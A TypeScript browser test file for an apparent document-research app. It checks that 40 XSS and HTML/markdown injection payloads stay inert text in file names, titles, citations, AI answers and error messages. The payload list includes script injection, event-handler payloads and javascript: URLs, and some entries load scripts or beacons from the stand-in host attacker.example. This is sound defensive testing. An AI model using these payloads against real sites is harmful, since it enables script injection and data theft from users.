import { describe, expect, it } from 'vitest'
import { setUpPages } from '../fixtures/page-tests.ts'
import { askOn, browserPath, routing, type Scene, type Stage } from '../fixtures/stage.ts'

const elsewhere = 'https://attacker.example'
const attack = 'alert(1)'

/** Texts that would run a script or ask another server, if the page took them for more than texts. */
const hostile: readonly string[] = [
  `<script>${attack}</script>`,
  `<script src=${elsewhere}/a.js></script>`,
  `<img src=x onerror=${attack}>`,
  `<img src=${elsewhere}/pixel.gif>`,
  `<svg onload=${attack}>`,
  `<svg><script>${attack}</script></svg>`,
  `<svg><animate onbegin=${attack} attributeName=x dur=1s>`,
  `<iframe src="javascript:${attack}"></iframe>`,
  `<iframe srcdoc="<script>parent.${attack}</script>"></iframe>`,
  `<iframe src=${elsewhere}></iframe>`,
  `<object data=${elsewhere}/a.swf></object>`,
  `<embed src=${elsewhere}/a.swf>`,
  `<link rel=stylesheet href=${elsewhere}/a.css>`,
  `<style>@import "${elsewhere}/a.css"</style>`,
  `<style>body{background:url(${elsewhere}/a.png)}</style>`,
  `<body onload=${attack}>`,
  `<base href=${elsewhere}/>`,
  `<meta http-equiv=refresh content="0;url=${elsewhere}">`,
  `<form action=${elsewhere}><button autofocus onfocus=${attack}>Send</button></form>`,
  `<input autofocus onfocus=${attack}>`,
  `<details open ontoggle=${attack}>`,
  `<video src=x onerror=${attack}></video>`,
  `<audio src=${elsewhere}/a.mp3 autoplay></audio>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${attack}>`,
  `<a href="javascript:${attack}">open</a>`,
  `<marquee onstart=${attack}>text</marquee>`,
  `<template><script>${attack}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${attack}>">`,
  `"><script>${attack}</script>`,
  `' autofocus onfocus=${attack} x='`,
  `</textarea><script>${attack}</script>`,
  `</title><script>${attack}</script>`,
  `--><script>${attack}</script>`,
  `]]><script>${attack}</script>`,
  `[open](javascript:${attack})`,
  `![picture](${elsewhere}/pixel.png)`,
  `[1]: javascript:${attack}`,
  `\`\`\`html\n<script>${attack}</script>\n\`\`\``,
  `{{constructor.constructor('${attack}')()}}`,
  `javascript:${attack}//%0A${elsewhere}`,
]

const halves = [hostile.slice(0, 20), hostile.slice(20)]

/** Each text in a sentence that a document holds and an answer cites, and in one that nothing supports. */
const cited = (text: string, index: number) => `Entry ${index} of the list reads ${text} and ends.`
const answer = (texts: readonly string[]) =>
  texts
    .map((text) => `${cited(text, hostile.indexOf(text))}<cite id="P1">${text}</cite>\n\nNobody said ${text} in 1999.`)
    .join('\n\n')

const scenes: readonly Scene[] = [
  ...halves.map((texts, index) => ({
    asks: `list ${index}`,
    lines: {
      research: { toolCalls: texts.slice(0, 8).map((query) => ({ name: 'pdf_retrieval', args: { query } })) },
      synthesis: { content: answer(texts) },
    },
  })),
  {
    asks: 'Which entry',
    lines: {
      orchestrator: routing({ route: 'clarification', missingContext: [hostile[0]], candidates: hostile }),
      clarification: { content: hostile.join(' ') },
    },
  },
  { asks: 'What failed', lines: { orchestrator: { status: 401, body: { error: { message: hostile.join(' ') } } } } },
]

const pages = setUpPages('scripts in texts are not tried.', { scenes })

/** A document for each text: it is the file's name, its title, and what it says. */
async function upload(stage: Stage): Promise<void> {
  const { origin } = new URL(stage.url)
  const headers = { authorization: `Bearer ${stage.token}` }
  for (const [index, text] of hostile.entries()) {
    const name = encodeURIComponent(`${index} ${text.replaceAll(/[/\\]/g, '_')}.md`)
    const body = `# Entry ${index}\n\n${cited(text, index)}\n`
    const added = await fetch(`${origin}/api/documents?name=${name}`, { method: 'POST', headers, body })
    const [{ documentId }] = ((await added.json()) as { documents: [{ documentId: string }] }).documents
    const change = JSON.stringify({ title: text, authors: [text] })
    const json = { ...headers, 'content-type': 'application/json' }
    await fetch(`${origin}/api/documents/${documentId}`, { method: 'PATCH', headers: json, body: change })
  }
}

describe.skipIf(!browserPath)('texts with scripts', { timeout: 300_000, tags: ['slow', 'S2', 'S20'] }, () => {
  it('stay texts in titles, file names, quotes, answers, questions back and failures: 40 of them', async () => {
    expect(hostile).toHaveLength(40)
    await upload(pages.stage())
    const { page, complaints } = await pages.open()
    page.on('dialog', (dialog) => {
      complaints.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    await page.getByRole('button', { name: 'Documents' }).click()
    await page.getByText('Questions search all 40 documents').waitFor()
    const titles = await page.locator('.library li .what > span').allTextContents()
    expect(hostile.filter((text) => !titles.some((title) => title.startsWith(text.replace(/\s+/g, ' '))))).toEqual([])
    await page.getByRole('searchbox', { name: 'Search the documents' }).fill('entry of the list')
    await page.locator('.passages li button').first().click()
    await page.locator('.page-text mark').first().waitFor()
    await page.keyboard.press('Escape')
    for (const [index, texts] of halves.entries()) {
      await page.getByRole('button', { name: 'New question' }).click()
      await askOn(page, `${texts[0]} What is on list ${index}? ${texts[1]}`)
      for (const marker of await page.locator('.marker').all()) await marker.hover()
      for (const note of await page.locator('.notes button').all()) await note.click()
      await page.getByRole('button', { name: 'How it was found' }).click()
      for (const step of await page.locator('.timeline summary').all()) await step.click()
    }
    const said = await page.locator('.turn').textContent()
    expect(halves[1]!.filter((text) => said!.includes(text)).length).toBeGreaterThan(10)
    await page.getByRole('button', { name: 'New question' }).click()
    await askOn(page, `Which entry? ${hostile[4]}`)
    await page.getByRole('button', { name: hostile[0]!, exact: true }).waitFor()
    await page.getByRole('button', { name: 'New question' }).click()
    await askOn(page, `What failed? ${hostile[2]}`)
    await page.reload()
    await page.locator('.turn').waitFor()
    expect(complaints).toEqual([])
  })
})
